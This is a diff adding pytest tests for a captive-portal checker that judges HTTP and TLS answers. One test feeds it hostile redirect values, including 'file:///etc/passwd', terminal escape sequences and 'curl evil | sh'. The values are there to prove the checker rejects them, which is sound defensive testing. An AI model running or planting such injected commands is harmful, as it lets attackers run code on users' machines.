@@ -11,7 +11,15 @@ import pytest
 
 from cedos.controller.events import Witness
 from cedos.host.monitor import dns_message, portal_check
-from cedos.host.monitor.portal_check import PortalCheck, PortalVerdict, TestPage, leads_nowhere
+from cedos.host.monitor.portal_check import (
+    PortalCheck,
+    PortalVerdict,
+    TestPage,
+    TlsAnswer,
+    judge,
+    leads_nowhere,
+    shake_hands,
+)
 from cedos.model import Network, NetworkKind, NextHop
 
 SIX = ip_address("::1")
@@ -201,3 +209,105 @@ async def test_a_router_that_answers_no_names_need_not_be_a_resolver():
             found = await PortalCheck(page, port=port)(network, 0.4)
             assert (found.verdict, found.witness) == (PortalVerdict.SILENT, Witness.NAME)
             assert found.guessed == (network is guessed)
+
+
+PAGE = TestPage.of("http://portal.test:8080/nm?x=1", "all is well")
+
+
+def test_the_page_of_a_url():
+    assert (PAGE.host, PAGE.port, PAGE.path) == ("portal.test", 8080, "/nm?x=1")
+    assert b"GET /nm?x=1 HTTP/1.1\r\nHost: portal.test\r\n" in PAGE.request()
+    assert b"Host: [2001:db8::1]\r\n" in TestPage.of("http://[2001:db8::1]", "").request()
+    for url in ("https://portal.test/", "portal.test", "http:///x", "http://a:b@c/", "http://a:x/"):
+        with pytest.raises(ValueError, match=r"."):
+            TestPage.of(url, "")
+
+
+@pytest.mark.parametrize(
+    ("answer", "verdict", "page"),
+    [
+        (b"HTTP/1.1 204 No Content\r\n\r\n", PortalVerdict.FREE, ""),
+        (b"HTTP/1.1 200 OK\r\nServer: x\r\n\r\nall is well\n", PortalVerdict.FREE, ""),
+        (b"HTTP/1.1 200 OK\r\n\r\nb\r\nall is well\r\n0\r\n\r\n", PortalVerdict.FREE, ""),
+        (b"HTTP/1.1 200 OK\r\n\r\n<html>Welcome", PortalVerdict.CAPTIVE, ""),
+        (
+            b"HTTP/1.1 302 Found\r\nLOCATION: http://gw/l\r\n\r\n",
+            PortalVerdict.CAPTIVE,
+            "http://gw/l",
+        ),
+        (b"HTTP/1.0 511 Log in\r\n\r\n", PortalVerdict.CAPTIVE, ""),
+        (b"HTTP/1.1 407 Proxy\r\n\r\n", PortalVerdict.CAPTIVE, ""),
+        (b"HTTP/1.1 200 OK\r\n\r\n", PortalVerdict.UNCLEAR, ""),
+        (b"HTTP/1.1 404 Not Found\r\n\r\n", PortalVerdict.UNCLEAR, ""),
+        (b"HTTP/1.1 503 Busy\r\n\r\nall is well", PortalVerdict.UNCLEAR, ""),
+        (b"SSH-2.0-x\r\n", PortalVerdict.CAPTIVE, ""),
+        (b"", PortalVerdict.SILENT, ""),
+    ],
+)
+def test_what_an_answer_says(answer, verdict, page):
+    finding = judge(PAGE, answer)
+    assert (finding.verdict, finding.page) == (verdict, page)
+
+
+@pytest.mark.parametrize(
+    "location",
+    [
+        "javascript:alert(1)", "file:///etc/passwd", "http://gw/\x1b[2J\x1b]0;owned\x07",
+        "http://gw/ ; curl evil | sh", "http://g\u202ew/", "https://" + "a" * 4000, "/login",
+    ],
+)  # fmt: skip
+def test_only_a_web_page_is_ever_suggested(location):
+    answer = f"HTTP/1.1 302 Found\r\nLocation: {location}\r\n\r\n".encode()
+    finding = judge(PAGE, answer)
+    assert (finding.verdict, finding.page) == (PortalVerdict.CAPTIVE, "")
+    assert finding.why == "the test page was redirected to something that is no web page"
+
+
+@pytest.mark.parametrize(
+    ("expected", "body", "verdict"),
+    [
+        ("success", b"success\n", PortalVerdict.FREE),
+        ("success", b"8\r\nsuccess\n\r\n0\r\n\r\n", PortalVerdict.FREE),
+        ("Success", b"<HTML><TITLE>Success</TITLE><BODY>Success</BODY></HTML>", PortalVerdict.FREE),
+        ("<b>OK</b>", b"\r\n<b>OK</b>", PortalVerdict.FREE),
+        ("success", b"<html>Welcome. <script>success: go()</script>", PortalVerdict.CAPTIVE),
+        ("OK", b"<p>Pay here</p><button>OK</button>", PortalVerdict.CAPTIVE),
+        ("OK", b"1f\r\n<p>Room number</p><button>OK</button>", PortalVerdict.CAPTIVE),
+        ("NetworkManager is online", b"<p>Not NetworkManager is online", PortalVerdict.CAPTIVE),
+    ],
+)
+def test_the_pages_words_within_a_log_in_page_are_no_page(expected, body, verdict):
+    page = TestPage.of("http://page.test/", expected)
+    assert judge(page, b"HTTP/1.1 200 OK\r\n\r\n" + body).verdict is verdict
+
+
+HERE = ip_address("127.0.0.1")
+LO = Network("lo", "lo", 1, NetworkKind.ETHERNET, False, (ip_interface("127.0.0.1/8"),))
+
+
+@pytest.mark.parametrize(
+    "said", [b"HTTP/1.1 302 Found\r\n\r\n", b"", b"\x15\x03\x01\x00\x02\x02\x28"]
+)
+async def test_a_box_that_answers_cannot_prove_to_be_the_host(said):
+    async def box(reader, writer):
+        await reader.read(10)
+        writer.write(said)
+        writer.close()
+
+    server = await asyncio.start_server(box, str(HERE), 0)
+    async with server:
+        port = server.sockets[0].getsockname()[1]
+        assert await shake_hands(LO, HERE, 2.0, port) is TlsAnswer.ANSWERED
+
+
+async def test_a_refusal_and_silence_are_told_apart():
+    with socket.socket() as closed:
+        closed.bind((str(HERE), 0))
+        assert await shake_hands(LO, HERE, 2.0, closed.getsockname()[1]) is TlsAnswer.REFUSED
+    full = socket.create_server((str(HERE), 0), backlog=0)
+    with full, socket.socket() as first, socket.socket() as second:
+        for each in (first, second):
+            each.setblocking(False)
+            each.connect_ex(full.getsockname())
+        found = await shake_hands(LO, HERE, 0.2, full.getsockname()[1])
+        assert found is TlsAnswer.SILENT
